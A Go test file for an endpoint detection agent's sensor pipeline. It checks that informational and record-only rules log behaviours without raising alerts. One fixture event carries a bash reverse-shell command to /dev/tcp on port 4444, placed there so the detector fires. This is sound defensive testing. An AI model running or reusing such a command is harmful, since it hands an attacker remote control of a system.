package sensor_test

import (
	"context"
	"slices"
	"testing"
	"testing/fstest"
	"time"

	"github.com/bulwarkhq/bulwark/agent/detect"
	"github.com/bulwarkhq/bulwark/agent/process"
	"github.com/bulwarkhq/bulwark/agent/sensor"
	"github.com/bulwarkhq/bulwark/agent/sensor/sensortest"
	"github.com/bulwarkhq/bulwark/content/rules"
	"github.com/bulwarkhq/bulwark/event"
)

// What an informational rule finds is recorded and raises no alert, unless the
// rule says that it is rare; what is graver raises one.
func TestBehaviorsAreNoAlerts(t *testing.T) {
	engine := detect.New(detect.Options{})
	if rep := engine.Load(detect.Source{Name: "builtin", FS: rules.FS(), Builtin: true}); len(rep.Problems) > 0 {
		t.Fatal(rep.Problems)
	}
	var r, behaviors results
	started := time.Now() // one process is the same in both of its events
	run := func(pid int64, image, line string) event.Event {
		p := event.Process{PID: pid, ParentPID: 4_000_001, StartTime: started, FolderPath: image, CommandLine: line}
		return event.Event{Time: time.Now(), Class: event.ClassProcess, Action: event.ProcessCreated, Process: p, Initiating: event.Process{PID: 4_000_001, FolderPath: "/usr/bin/bash", CommandLine: "bash"}}
	}
	p := &sensor.Pipeline{
		Table: sensortest.Table(t), Detect: engine, OnEvent: r.event, OnAlert: r.alert, OnBehavior: behaviors.event, Log: sensortest.Log(t),
		Sensors: []sensor.Sensor{&fake{"one", both(), func(ctx context.Context, _ []event.Category, s sensor.Sink) error {
			s.Ready()
			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
			s.Emit(run(4_000_004, "/usr/bin/cat", "cat /etc/shells"), process.Image{})
			s.Emit(run(4_000_003, "/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), process.Image{})
			<-ctx.Done()
			return nil
		}}},
	}
	stop := start(t, p)
	r.wait(t, "the last event and its alert", func() bool { return len(r.events) == 4 && len(r.alerts) > 1 })
	stop()
	if len(behaviors.events) != 2 || behaviors.events[0].Action != "SystemInformation" || behaviors.events[0].Class != event.ClassBehavior || behaviors.events[0].ReportID != 1 {
		t.Errorf("behaviours: %+v", behaviors.events)
	}
	for _, a := range r.alerts {
		if (a.Severity == event.SeverityInformational) != (a.Process.PID == 4_000_004) || a.Process.PID < 4_000_003 {
			t.Errorf("alert %s about %+v", a.Title, a.Process)
		}
	}
	if st := engine.BehaviorStats(); st != (detect.BehaviorStats{Recorded: 2, Repeated: 1}) {
		t.Errorf("%+v", st)
	}
}

// What rules find that the policy lets record only is recorded, whether they look
// at events or at behaviours, and raises no alert.
func TestRecordOnlyRulesRaiseNoAlert(t *testing.T) {
	rule := func(id, source, field string) *fstest.MapFile {
		return &fstest.MapFile{Data: []byte("title: " + id + "\nid: " + id + "\nlevel: high\nlogsource: {product: linux, category: " + source + "}\ndetection:\n  s: {" + field + "}\n  condition: s\n")}
	}
	engine := detect.New(detect.Options{})
	rep := engine.Load(detect.Source{Name: "m", FS: fstest.MapFS{
		"a.yml": rule("first", "process_creation", "Image: /bin/odd"), "b.yml": rule("second", "behavior", "RuleId: first"), "c.yml": rule("third", "behavior", "RuleId: second"),
		"d.yml": rule("last", "process_creation", "Image: /bin/end"),
	}})
	if len(rep.Problems) > 0 {
		t.Fatal(rep.Problems)
	}
	engine.SetModes(detect.Modes{RecordOnly: []string{"first", "second"}})
	var r, behaviors results
	run := func(pid int64, image string) event.Event {
		return event.Event{Time: time.Now(), Class: event.ClassProcess, Action: event.ProcessCreated, Process: event.Process{PID: pid, ParentPID: 4_000_001, StartTime: time.Now(), FolderPath: image}}
	}
	p := &sensor.Pipeline{
		Table: sensortest.Table(t), Detect: engine, OnEvent: r.event, OnAlert: r.alert, OnBehavior: behaviors.event, Log: sensortest.Log(t),
		Sensors: []sensor.Sensor{&fake{"one", both(), func(ctx context.Context, _ []event.Category, s sensor.Sink) error {
			s.Ready()
			s.Emit(run(4_000_002, "/bin/odd"), process.Image{})
			s.Emit(run(4_000_003, "/bin/end"), process.Image{})
			<-ctx.Done()
			return nil
		}}},
	}
	stop := start(t, p)
	r.wait(t, "the alert of the last event", func() bool { return len(r.events) == 2 && len(r.alerts) > 0 })
	stop()
	if len(r.alerts) != 1 || r.alerts[0].DetectorID != "last" {
		t.Errorf("alerts: %+v", r.alerts)
	}
	var got []string
	for _, b := range behaviors.events {
		got = append(got, b.Additional[event.BehaviorRule])
	}
	if !slices.Equal(got, []string{"first", "second"}) {
		t.Errorf("recorded: %q", got)
	}
}
